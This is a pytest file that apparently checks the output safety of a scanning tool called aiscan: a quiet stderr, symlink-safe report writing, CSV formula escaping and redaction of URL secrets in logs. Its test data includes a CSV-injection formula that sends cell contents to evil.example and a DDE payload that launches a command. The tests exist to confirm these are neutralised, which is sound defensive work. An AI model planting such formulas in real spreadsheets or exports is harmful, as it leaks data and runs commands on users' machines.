"""What aiscan writes is safe: a quiet terminal, atomic reports, no CSV formulas, no URL secrets in logs."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import netservers
import pytest
from images import png_dir
from PIL import Image
from tinymodels import save_tiny_classifier

from aiscan.jobs import logsafe
from aiscan.jobs.reports import SafeCsvWriter, csv_cell
from aiscan.jobs.settings import Settings
from aiscan.jobs.sources import fetch
from aiscan.jobs.sources.urltext import redact_text
from bench.processes import aiscan_env, run_aiscan


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[dict[str, str], Path, str]]:
    """A home with a tiny default model, and the stderr of a scan of 3 PNGs and a decompression bomb."""
    base = tmp_path_factory.mktemp("safe")
    save_tiny_classifier(base / "tiny.keras", 32)
    imgs = base / "imgs"
    png_dir(imgs, 3, (40, 40))
    # 90 Mpx of 1-bit PNG (11 KB): over Pillow's warning threshold, refused by a lower AISCAN_MAX_PIXELS.
    Image.new("1", (10_000, 9_000)).save(imgs / "bomb.png")
    env = aiscan_env(os.environ, AISCAN_HOME=str(base / "home"), AISCAN_MAX_PIXELS="50000000")
    # The user's environment: nothing set to quiet TensorFlow.
    env.pop("TF_CPP_MIN_LOG_LEVEL", None)
    run_aiscan(["model", "import", str(base / "tiny.keras"), "--name", "tiny"], env, timeout=600)
    proc = run_aiscan(["scan", str(imgs), "--json"], env, timeout=600)
    yield env, base, proc.stderr


def test_a_scan_prints_nothing_but_its_output(scanned: tuple[dict[str, str], Path, str]) -> None:
    # TensorFlow's start-up lines (absl, oneDNN) and Pillow's DecompressionBombWarning used to land here.
    _env, _base, stderr = scanned
    assert stderr == ""


def test_report_does_not_write_through_a_planted_part_file(scanned: tuple[dict[str, str], Path, str]) -> None:
    env, base, _ = scanned
    victim = base / "victim.txt"
    victim.write_text("precious\n")
    out = base / "report.csv"
    (base / "report.csv.part").symlink_to(victim)
    proc = run_aiscan(["report", "1", "-o", str(out)], env, timeout=600)
    assert proc.stderr.strip() == f"wrote 4 rows to {out}"
    assert victim.read_text() == "precious\n"
    assert not out.is_symlink()
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert len(rows) == 4
    # Only the report and the planted link: no temporary file left behind.
    assert sorted(p.name for p in base.glob("*report*")) == ["report.csv", "report.csv.part"]


def test_report_cells_never_start_a_formula(scanned: tuple[dict[str, str], Path, str]) -> None:
    env, base, _ = scanned
    # Attacker-chosen text in the cells of one row, written as the store would keep it.
    with sqlite3.connect(base / "home" / "aiscan.db") as conn:
        row_id = conn.execute("SELECT min(id) FROM results WHERE job_id = 1").fetchone()[0]
        conn.execute(
            "UPDATE results SET image_uri = ?, error = ?, format = ? WHERE id = ?",
            ('=HYPERLINK("http://evil.example/?leak="&A1)', "@SUM(1+1)", "-2+3", row_id),
        )
    out = base / "formula.csv"
    run_aiscan(["report", "1", "-o", str(out)], env, timeout=600)
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    evil = next(r for r in rows if "HYPERLINK" in r["image_uri"])
    assert evil["image_uri"] == '\'=HYPERLINK("http://evil.example/?leak="&A1)'
    assert (evil["error"], evil["format"]) == ("'@SUM(1+1)", "'-2+3")
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(starts) for r in rows for cell in r.values())
    # The JSON Lines report is data, not a spreadsheet: it keeps the text as it is.
    proc = run_aiscan(["report", "1", "--format", "jsonl"], env, timeout=600)
    records = [json.loads(line) for line in proc.stdout.splitlines()]
    assert any(r["image_uri"].startswith("=HYPERLINK") for r in records)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@A1", "\tx", "\rx"])
def test_text_cells_get_a_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


def test_numbers_stay_numbers() -> None:
    # aiscan's own numbers, negative ones included, are values and not attacker text.
    assert [csv_cell(v) for v in (-1, -0.5, 0.25, None, "a=b", "")] == [-1, -0.5, 0.25, None, "a=b", ""]
    out = io.StringIO()
    writer = SafeCsvWriter(out, ("text", "number"))
    writer.writeheader()
    writer.writerow({"text": "=cmd|' /C calc'!A0", "number": -3})
    assert out.getvalue() == "text,number\n'=cmd|' /C calc'!A0,-3\n"


def test_log_text_hides_queries_and_credentials() -> None:
    line = 'HTTP Request: GET https://u:pw@h.example/a.png?X-Amz-Signature=abc&t=1 "HTTP/1.1 200 OK"'
    assert (
        redact_text(line)
        == 'HTTP Request: GET https://***@h.example/a.png?<query redacted> "HTTP/1.1 200 OK"'
    )
    assert redact_text("s3://bucket/key and no query") == "s3://bucket/key and no query"


def test_fetch_logs_show_no_query_string(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    settings = Settings.from_env({"AISCAN_HOME": str(tmp_path), "AISCAN_URL_ALLOW_NETWORKS": "127.0.0.0/8"})
    logsafe.install()
    with netservers.FaultyHTTPServer() as server, caplog.at_level(logging.INFO):
        server.add("/a.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, content_type="image/png")
        url = server.url("/a.png?X-Amz-Signature=s3cr3t&token=t0k3n")
        fetch(url, settings)
    requests = [r for r in caplog.records if r.name == "httpx"]
    assert requests, "httpx logs each request at INFO: the case this test is about"
    assert all(r.levelno >= logging.INFO for r in requests)
    assert "s3cr3t" not in caplog.text and "t0k3n" not in caplog.text
    assert "/a.png?<query redacted>" in caplog.text
